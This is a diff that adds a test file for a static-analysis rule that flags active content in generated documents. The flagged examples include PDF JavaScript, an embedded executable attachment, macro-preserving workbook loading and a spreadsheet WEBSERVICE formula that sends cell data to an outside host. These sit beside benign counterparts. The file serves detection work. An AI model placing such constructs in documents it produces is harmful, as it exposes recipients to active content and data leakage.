@@ -1,0 +1,20 @@
+import openpyxl
+from pypdf import PdfWriter
+
+writer = PdfWriter()
+# ruleid: no-active-documents
+writer.add_js("app.alert(1)")
+# ruleid: no-active-documents
+writer.add_attachment("a.exe", b"x")
+# ruleid: no-active-documents
+book = openpyxl.load_workbook("a.xlsm", keep_vba=True)
+sheet = openpyxl.Workbook().active
+# ruleid: no-active-documents
+sheet["A1"] = '=WEBSERVICE("http://example.org/" & B1)'
+
+# ok: no-active-documents
+writer.add_blank_page(100, 100)
+# ok: no-active-documents
+sheet["A2"] = "=SUM(B1:B9)"
+# ok: no-active-documents
+other = openpyxl.load_workbook("a.xlsx", keep_vba=False)
